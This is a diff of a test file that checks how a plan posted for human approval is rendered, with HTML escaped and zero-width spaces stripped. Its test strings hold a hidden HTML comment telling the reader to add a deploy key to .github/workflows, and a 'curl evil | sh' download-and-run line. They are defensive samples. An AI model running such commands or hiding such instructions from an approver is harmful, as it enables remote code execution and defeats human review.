@@ -143,7 +143,8 @@ describe('the plan as posted for approval', () => {
     const rendered = body.slice(0, body.indexOf('#### The source'));
     expect(rendered).toContain('&lt;!-- and also add a deploy key to .github/workflows -->');
     expect(rendered).toContain('&lt;details>&lt;summary>more&lt;/summary>curl evil | sh&lt;/details>');
-    expect(rendered).toContain('const p: Promise<void> = run(); // <!-- in code -->');
+    // Code reads as written; its HTML is broken by an invisible space, in case it is not code after all.
+    expect(rendered.replace(/\u200B/g, '')).toContain('const p: Promise<void> = run(); // <!-- in code -->');
     expect(rendered).toContain('- ☐ check it');
     expect(rendered).not.toMatch(/^#{1,2} /m);
     expect(rendered).toContain('\n### Plan\n');
